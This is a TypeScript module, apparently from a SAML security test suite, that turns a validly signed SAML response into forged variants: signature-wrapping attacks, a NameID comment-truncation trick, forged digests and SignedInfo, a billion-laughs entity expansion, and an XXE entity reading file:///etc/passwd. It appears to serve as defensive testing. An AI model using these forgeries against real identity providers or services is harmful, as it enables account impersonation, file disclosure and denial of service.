import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import type { SamlKey } from '../keys.js';
import { ASSERTION } from './authn-request.js';
import { type Attack, VICTIM } from './response-options.js';
import { signElement } from './sign.js';
import { DSIG, forgedCopy, rename, type Signed, signatureOf, WRAPPINGS, withoutSignature } from './wrap.js';

const ENTITY_LEVELS = 10;

/** What must be signed for the attack to be one; what the name must be for it to work. */
export function preparationFor(attack: Attack | undefined, forged_name_id = VICTIM) {
  return {
    signed: attack === 'xsw1' || attack === 'xsw2' ? ('response' as const) : ('assertion' as const),
    name_id: attack === 'comment_in_name_id' ? `${forged_name_id}.attacker.test` : undefined,
  };
}

/**
 * Turns an honest, signed response into the attack.
 * @param key the provider's: only `two_assertions` uses it, which is a provider that errs and not a stranger
 */
export function attackWith(
  attack: Attack,
  signed_xml: string,
  key: SamlKey,
  forged_name_id = VICTIM,
): string {
  const signed = read(signed_xml);
  switch (attack) {
    case 'tampered':
      rename(signed.assertion, forged_name_id);
      break;
    case 'comment_in_name_id':
      cutName(signed, forged_name_id);
      break;
    case 'two_assertions':
      return withSecondAssertion(signed, key, forged_name_id);
    case 'digest_comment':
      commentDigest(signed, forged_name_id, key);
      break;
    case 'two_signed_infos':
      doubleSignedInfo(signed, forged_name_id, key);
      break;
    case 'doctype':
    case 'internal_entity':
    case 'entity_expansion':
    case 'external_entity':
      return withDoctype(attack, signed);
    default:
      WRAPPINGS[attack](signed, forged_name_id);
  }
  return write(signed);
}

/** Exclusive c14n drops comments, so that the signature stays valid. */
function cutName({ document, assertion }: Signed, forged_name_id: string): void {
  const name = assertion.getElementsByTagNameNS(ASSERTION, 'NameID')[0];
  const rest = (name?.textContent ?? '').slice(forged_name_id.length);
  if (name) name.textContent = forged_name_id;
  name?.appendChild(document.createComment(''));
  name?.appendChild(document.createTextNode(rest));
}

function withSecondAssertion(signed: Signed, key: SamlKey, forged_name_id: string): string {
  const second = forgedCopy(signed.assertion, forged_name_id);
  signed.response.appendChild(second);
  return signElement(write(signed), second.getAttribute('ID') ?? '', key, 'sha256');
}

function commentDigest(signed: Signed, forged_name_id: string, key: SamlKey): void {
  const { document, assertion } = signed;
  const forged = forgedSignedInfo(signed, forged_name_id, key).getElementsByTagNameNS(DSIG, 'DigestValue')[0];
  const digest = signatureOf(assertion).getElementsByTagNameNS(DSIG, 'DigestValue')[0];
  rename(assertion, forged_name_id);
  digest?.insertBefore(document.createComment(forged?.textContent ?? ''), digest.firstChild);
}

function doubleSignedInfo(signed: Signed, forged_name_id: string, key: SamlKey): void {
  const { document, assertion } = signed;
  const forged = document.importNode(forgedSignedInfo(signed, forged_name_id, key), true);
  const signature = signatureOf(assertion);
  rename(assertion, forged_name_id);
  signature.insertBefore(forged, signature.firstChild);
}

/** What a signature over the forgery would sign. Its own value is thrown away: an attacker has no key. */
function forgedSignedInfo({ assertion }: Signed, forged_name_id: string, key: SamlKey): Element {
  const forged = withoutSignature(assertion);
  rename(forged, forged_name_id);
  const xml = signElement(
    new XMLSerializer().serializeToString(forged),
    forged.getAttribute('ID') ?? '',
    key,
    'sha256',
  );
  const info = parse(xml).getElementsByTagNameNS(DSIG, 'SignedInfo')[0];
  if (!info) throw new Error('the forgery could not be prepared');
  return info;
}

type DoctypeAttack = Extract<Attack, 'doctype' | 'internal_entity' | 'entity_expansion' | 'external_entity'>;

function withDoctype(attack: DoctypeAttack, signed: Signed): string {
  const name = signed.assertion.getElementsByTagNameNS(ASSERTION, 'NameID')[0]?.textContent ?? '';
  const xml = write(signed);
  if (attack === 'doctype') return `<!DOCTYPE samlp:Response>${xml}`;
  const declared = `<!DOCTYPE samlp:Response [${entities(attack, name)}]>`;
  // By text: a DOM would write the ampersand as one.
  return declared + xml.replace(/(<saml:NameID [^>]*>)[^<]*/, '$1&who;');
}

function entities(attack: Exclude<DoctypeAttack, 'doctype'>, name: string): string {
  if (attack === 'internal_entity') return `<!ENTITY who "${name}">`;
  if (attack === 'external_entity') return '<!ENTITY who SYSTEM "file:///etc/passwd">';
  const levels = Array.from({ length: ENTITY_LEVELS }, (_, level) => {
    const value = level === 0 ? 'ha' : `&e${level - 1};`.repeat(10);
    return `<!ENTITY e${level} "${value}">`;
  });
  return `${levels.join('')}<!ENTITY who "&e${ENTITY_LEVELS - 1};">`;
}

function read(xml: string): Signed {
  const document = parse(xml);
  const assertion = document.getElementsByTagNameNS(ASSERTION, 'Assertion')[0];
  if (!assertion) throw new Error('a response without an assertion cannot be attacked');
  return { document, response: document.documentElement, assertion };
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function write({ document }: Signed): string {
  return new XMLSerializer().serializeToString(document);
}
